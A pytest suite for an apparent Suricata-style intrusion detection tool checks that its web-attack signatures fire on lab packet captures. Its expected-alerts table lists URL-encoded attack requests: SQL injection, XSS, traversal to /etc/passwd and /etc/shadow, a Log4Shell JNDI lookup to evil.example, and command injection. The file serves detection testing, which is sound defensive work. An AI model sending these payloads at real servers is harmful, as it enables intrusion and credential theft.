"""rules/vigil.rules on the lab captures (../shared/data/lab/README.md): every web attack
in http-attacks.pcap raises its signature, on the request that carries it and on no
other; benign.pcap (normal HTTP over IPv4 and IPv6, SSH, UDP) raises nothing; the alert
records carry EVE's alert fields and the HTTP transaction, as Suricata's do."""
import json
import os
import subprocess

import pytest

BIN = os.environ.get("VIGIL_BIN", "vigil")
SHARED = os.environ.get("VIGIL_SHARED", "/work/shared")
SRC = os.environ.get("VIGIL_SRC", os.path.join(os.path.dirname(__file__), "..", "..", ".."))
LAB = os.path.join(SHARED, "data", "lab", "pcap")
RULES = os.path.join(SRC, "rules", "vigil.rules")


def analyze(pcap, *extra):
    p = subprocess.run([BIN, "analyze", "--no-summary", "--rules", RULES, *extra,
                        os.path.join(LAB, pcap)], capture_output=True, text=True, timeout=600)
    assert p.returncode == 0, p.stderr[-2000:]
    assert "skipped" not in p.stderr, p.stderr  # every rule of ours loads
    return [json.loads(l) for l in p.stdout.splitlines()]


def sig_alerts(evs):
    return [e for e in evs if e["event_type"] == "alert" and
            9200000 <= e["alert"]["signature_id"] < 9201000]


@pytest.fixture(scope="module")
def attacks():
    return analyze("http-attacks.pcap")


# (url of the request as sent, sids that must fire on it); the request of each attack
# kind of the README, and which of our rules it should trip.
EXPECTED = [
    ("/index.php?id=1%27%20OR%20%271%27=%271", {9200001}),                      # SQLi tautology
    ("/product?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", {9200002}),
    ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", {9200003}),                 # XSS
    ("/../../etc/passwd", {9200005, 9200006}),                                  # traversal
    ("/static/..%2f..%2f..%2fetc%2fshadow", {9200005, 9200006}),
    ("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", {9200010}),           # Log4Shell
    ("/wp-login.php", {9200008}),                                               # probes
    ("/.env", {9200007}),
    ("/cgi-bin/test.cgi?cmd=;cat%20/etc/passwd", {9200012, 9200006}),            # cmd injection
    ("/item?id=2", {9200020}),                                                  # sqlmap UA
]


@pytest.mark.parametrize("url,sids", EXPECTED, ids=[u for u, _ in EXPECTED])
def test_attack_raises_its_signature(attacks, url, sids):
    got = {a["alert"]["signature_id"] for a in sig_alerts(attacks)
           if a.get("http", {}).get("url") == url}
    assert got == sids, f"{url}: expected {sorted(sids)}, got {sorted(got)}"


def test_every_rule_fires_once_per_request(attacks):
    # once per transaction per rule: no duplicates for the same request
    seen = {}
    for a in sig_alerts(attacks):
        if a["alert"]["signature_id"] == 9200030:
            continue
        key = (a["flow_id"], a["alert"]["signature_id"], a["http"].get("url"))
        seen[key] = seen.get(key, 0) + 1
    assert seen and all(n == 1 for n in seen.values()), seen


def test_login_brute_force_threshold(attacks):
    # 25 answers 401 to one client: "threshold: type threshold, count 10" → 2 alerts, from
    # the server's response to the client (to_client rule)
    bf = [a for a in sig_alerts(attacks) if a["alert"]["signature_id"] == 9200030]
    assert len(bf) == 2
    for a in bf:
        assert a["src_ip"] == "10.99.0.2" and a["dest_ip"] == "10.99.0.1"
        assert a["http"]["url"] == "/login" and a["http"]["status"] == 401


def test_login_requests_raise_nothing_else(attacks):
    others = [a for a in sig_alerts(attacks) if a.get("http", {}).get("url") == "/login"
              and a["alert"]["signature_id"] != 9200030]
    assert others == []


def test_alert_record_fields(attacks):
    a = next(a for a in sig_alerts(attacks) if a["alert"]["signature_id"] == 9200010)
    al = a["alert"]
    assert al["gid"] == 1 and al["rev"] == 1 and al["action"] == "allowed"
    assert al["signature"] == "VIGIL WEB JNDI lookup (Log4Shell) in URI"
    assert al["category"] == "Attempted Administrator Privilege Gain"  # classtype attempted-admin
    assert al["severity"] == 1
    assert a["src_ip"] == "10.99.0.1" and a["dest_ip"] == "10.99.0.2" and a["dest_port"] == 80
    assert a["proto"] == "TCP" and a["app_proto"] == "http"
    assert a["http"]["http_method"] == "GET" and a["http"]["http_user_agent"] == "curl/7.88.1"
    assert a["tx_id"] == 0  # the first transaction of its connection
    # the rule's metadata as Suricata writes it: {key: [values]}
    assert al["metadata"]["cve"] == ["CVE_2021_44228"]
    assert al["metadata"]["attack_target"] == ["Web_Server"]
    assert al["metadata"]["signature_severity"] == ["Critical"]


def test_flow_record_says_alerted(attacks):
    alerted = {a["flow_id"] for a in sig_alerts(attacks)}
    flows = {f["flow_id"]: f for f in attacks if f["event_type"] == "flow"}
    assert alerted and all(flows[i]["flow"]["alerted"] for i in alerted)


def test_benign_raises_nothing():
    evs = analyze("benign.pcap")
    assert [e for e in evs if e["event_type"] == "alert"] == []
    # and it did look: the HTTP transactions were parsed
    assert sum(1 for e in evs if e["event_type"] == "http") >= 20


@pytest.mark.parametrize("pcap", ["ssh-bruteforce.pcap", "scan-connect.pcap", "tenants-vxlan.pcap"])
def test_no_signature_alert_on_other_lab_traffic(pcap):
    assert sig_alerts(analyze(pcap)) == []


def test_rules_from_config_equal_rules_option(tmp_path):
    cfg = tmp_path / "vigil.yaml"
    cfg.write_text(f"rules:\n  files:\n    - {RULES}\n")
    p = subprocess.run([BIN, "analyze", "--no-summary", "-c", str(cfg),
                        os.path.join(LAB, "http-attacks.pcap")], capture_output=True, text=True,
                       timeout=600)
    assert p.returncode == 0, p.stderr
    by_cfg = sorted(json.loads(l)["alert"]["signature_id"] for l in p.stdout.splitlines()
                    if '"event_type":"alert"' in l)
    by_opt = sorted(a["alert"]["signature_id"] for a in analyze("http-attacks.pcap")
                    if a["event_type"] == "alert")
    assert by_cfg == by_opt and len(by_cfg) >= 15


def test_missing_rule_file_is_a_usage_error(tmp_path):
    p = subprocess.run([BIN, "analyze", "--no-summary", "--rules", str(tmp_path / "nope.rules"),
                        os.path.join(LAB, "benign.pcap")], capture_output=True, text=True, timeout=600)
    assert p.returncode == 2 and "nope.rules" in p.stderr


def test_bad_rules_are_skipped_and_the_good_ones_run(tmp_path):
    rf = tmp_path / "mixed.rules"
    rf.write_text(
        'alert http any any -> any any (msg:"ok"; http.uri; content:"/.env"; sid:1;)\n'
        'alert http any any -> any any (msg:"bad"; http.uri; content:"x"; frobnicate; sid:2;)\n'
        'alert http any any -> any any (msg:"broken" sid:3;)\n')
    p = subprocess.run([BIN, "analyze", "--no-summary", "--rules", str(rf),
                        os.path.join(LAB, "http-attacks.pcap")], capture_output=True, text=True,
                       timeout=600)
    assert p.returncode == 0
    assert "1 loaded, 2 skipped" in p.stderr
    sids = [json.loads(l)["alert"]["signature_id"] for l in p.stdout.splitlines()
            if '"event_type":"alert"' in l]
    assert sids.count(1) == 1


@pytest.mark.parametrize("fmt", ["eve", "ecs"])
def test_signature_alerts_validate_against_schema(fmt):
    jsonschema = pytest.importorskip("jsonschema")
    with open(os.path.join(SRC, "etc", "schema", f"{fmt}-v1.schema.json")) as f:
        schema = json.load(f)
    cls = jsonschema.validators.validator_for(schema)
    v = cls(schema)
    lines = [json.loads(l) for l in
             subprocess.run([BIN, "analyze", "--no-summary", "--format", fmt, "--rules", RULES,
                             os.path.join(LAB, "http-attacks.pcap")], capture_output=True,
                            text=True, timeout=600, check=True).stdout.splitlines()]
    assert len(lines) > 20
    for rec in lines:
        errs = list(v.iter_errors(rec))
        assert not errs, f"{errs[0].message} in {json.dumps(rec)[:300]}"
